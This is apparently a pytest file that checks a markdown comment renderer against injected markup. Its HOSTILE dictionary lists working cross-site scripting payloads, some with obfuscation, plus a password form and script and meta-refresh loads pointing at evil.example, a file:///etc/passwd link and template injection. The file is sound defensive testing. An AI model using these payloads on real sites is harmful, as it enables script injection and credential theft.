"""What people write cannot harm who reads it. Checked on the parsed output, never by looking for words in it."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from talk.markdown import ATTRIBUTES, ELEMENTS, comment_html

ALLOWED = {name: ATTRIBUTES.get(name, set()) for name in ELEMENTS}
ALLOWED["a"] = ALLOWED["a"] | {"rel", "class"}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "hello <script src=//evil.example/x.js></script> there",
    "event handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "svg with animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link element": '<link rel=stylesheet href="https://evil.example/x.css">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment mutation": "<!--<img src='--><img src=x onerror=alert(1)>'",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><script>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with a tab": "[x](java\tscript:alert(1))",
    "javascript link with an entity": "[x](&#106;avascript:alert(1))",
    "javascript link with a newline entity": "[x](java&#10;script:alert(1))",
    "javascript by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "remote image": "![x](https://evil.example/pixel.gif)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "javascript image": "![x](javascript:alert(1))",
    "quote breaks out of an address": '[x](https://a.example/"onmouseover="alert(1))',
    "quote breaks out of a bare address": 'https://a.example/"onmouseover="alert(1)',
    "quote breaks out of a title": "[x](https://a.example 'a\" onclick=\"alert(1)')",
    "tag with markup": "#<script>alert(1)</script> #abc<img/src/onerror=alert(1)>",
    "bad fence info": "```<img src=x onerror=alert(1)>\ncode\n```",
    "fence class": '```"><script>alert(1)</script>\ncode\n```',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "null byte": "<scr\0ipt>alert(1)</scr\0ipt>",
    "template": "{{ request.user.password }} {% load x %}",
    "nested brackets": "[a](https://x.example)[b](javascript:alert(1)) ![c][d]\n\n[d]: javascript:1",
}


class Outline(HTMLParser):
    """The elements of a piece of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.oddities: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        self.text += data

    def handle_comment(self, data):  # type: ignore[no-untyped-def]
        self.oddities.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def links(self) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.elements if tag == "a"]


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_only_listed_elements_attributes_and_addresses_come_through(body):
    outline = Outline(comment_html(body))
    assert outline.oddities == []
    for tag, attributes in outline.elements:
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED[tag]
    for link in outline.links():
        assert urlsplit(link.get("href") or "").scheme in ("http", "https", "")
        assert link["rel"] == "nofollow noopener ugc"


def test_the_corpus_is_not_harmless_to_begin_with():
    """The same check on unfiltered text finds harm in most of it, so that passing means something."""

    def harmful(body: str) -> bool:
        outline = Outline(body)
        return bool(outline.oddities) or any(tag not in ALLOWED for tag, _attributes in outline.elements)

    assert sum(map(harmful, HOSTILE.values())) >= 20
    assert len(HOSTILE) >= 25


def links(body: str) -> list[str | None]:
    return [link.get("href") for link in Outline(comment_html(body)).links()]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("Look: #Asteroid here", ["/talk/tags/asteroid/"]),
        ("#one\n#two-2", ["/talk/tags/one/", "/talk/tags/two-2/"]),
        ("a#b #ab #", []),
        ("`#code` is not a tag link", []),
        ("like ^S12 and ^s7, not x^S3", ["/talk/subjects/12/", "/talk/subjects/7/"]),
        ("see https://archive.example/a_b?c=(1).", ["https://archive.example/a_b?c=(1)"]),
        ("(https://archive.example/x)", ["https://archive.example/x"]),
        ("<https://archive.example/y>", ["https://archive.example/y"]),
        ("[#asteroid](https://a.example)", ["https://a.example"]),
        ("![a trail](https://a.example/i.png)", ["https://a.example/i.png"]),
        ("ftp://a.example javascript:alert(1)", []),
    ],
)
def test_tags_subjects_and_addresses_become_links(body, expected):
    assert links(body) == expected


def test_an_image_becomes_a_link_with_its_description():
    outline = Outline(comment_html("![a trail](https://a.example/i.png)"))
    assert outline.text.strip() == "a trail"
    assert [tag for tag, _attributes in outline.elements] == ["p", "a"]


@pytest.mark.parametrize("level", range(1, 7))
def test_headings_stay_under_the_heading_of_the_comment(level):
    assert [tag for tag, _attributes in Outline(comment_html("#" * level + " Big")).elements] == ["h4"]


def test_usual_markdown_works():
    html = comment_html("**b** *i* ~~s~~ `c`\nnext line\n\n> q\n\n3. three\n4. four\n\n```\ncode < 1\n```")
    outline = Outline(html)
    names = [tag for tag, _attributes in outline.elements]
    assert names == ["p", "strong", "em", "s", "code", "br", "blockquote", "p", "ol", "li", "li", "pre", "code"]
    assert ("ol", {"start": "3"}) in outline.elements
    assert "code < 1" in outline.text


def test_the_text_of_refused_markup_stays_readable():
    assert Outline(comment_html("a <b>word</b> <script>x</script>")).text.strip() == "a <b>word</b> <script>x</script>"


@pytest.mark.parametrize(
    "body",
    ["[" * 10_000, ">" * 10_000, "*a " * 3_300, "![" * 5_000, "`" * 9_999, "#aaa " * 2_000, "- " * 5_000],
)
def test_a_long_nasty_comment_renders_quickly(body):
    start = time.perf_counter()
    comment_html(body)
    assert time.perf_counter() - start < 3
